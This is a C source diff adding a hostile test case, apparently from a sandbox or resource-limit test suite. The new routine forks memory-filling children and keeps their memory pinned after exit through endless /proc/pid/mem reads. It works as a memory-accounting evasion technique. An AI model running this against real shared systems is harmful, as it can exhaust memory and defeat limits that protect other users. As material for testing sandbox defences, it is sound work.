@@ -4,9 +4,11 @@
 #include <pthread.h>
 #include <sched.h>
 #include <signal.h>
+#include <stdio.h>
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include "hostile.h"
@@ -101,6 +103,49 @@ void hides_in_nameless_memory(void) {
     found = 1;
   }
   if (!found) return;
+  nap(long_enough);
+  gained();
+  sleep_forever();
+}
+
+static void read_for_ever(int memory_of_child, char* at, size_t size, int file, size_t piece) {
+  char* const buffer = mmap(NULL, size, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  for (size_t done = 0; done < size; done += piece)
+    mmap(buffer + done, piece, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, file, 0);
+  while (pread(memory_of_child, buffer, size, (off_t)(uintptr_t)at) > 0) {
+  }
+  _exit(0);
+}
+
+/* While a process reads the memory of another one by /proc, the kernel keeps it, although that one has ended.
+ */
+void keeps_memory_of_the_dead(void) {
+  open_cells(create_channel(), 0, 5);
+  const size_t size = (size_t)50 << 20, piece = (size_t)2 << 20;
+  const int file = open("/tmp/buffer", O_RDWR | O_CREAT, 0600);
+  if (ftruncate(file, (off_t)piece) != 0) return;
+  char* const at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  for (int i = 0; i < 8; ++i) {
+    int filled[2], go_on[2];
+    char byte = 0, path[32];
+    if (pipe(filled) != 0 || pipe(go_on) != 0) return;
+    const pid_t child = fork();
+    if (child == 0) {
+      memset(at, 1, size);
+      if (write(filled[1], "", 1) != 1 || read(go_on[0], &byte, 1) != 1) _exit(97);
+      _exit(0);
+    }
+    if (read(filled[0], &byte, 1) != 1) return;
+    snprintf(path, sizeof path, "/proc/%d/mem", child);
+    const int memory_of_child = open(path, O_RDWR);
+    if (memory_of_child < 0) return;
+    for (int reader = 0; reader < 3; ++reader) {
+      if (fork() == 0) read_for_ever(memory_of_child, at, size, file, piece);
+    }
+    nap(0.03); /* until they read */
+    if (write(go_on[1], "", 1) != 1) return;
+    waitpid(child, NULL, 0);
+  }
   nap(long_enough);
   gained();
   sleep_forever();
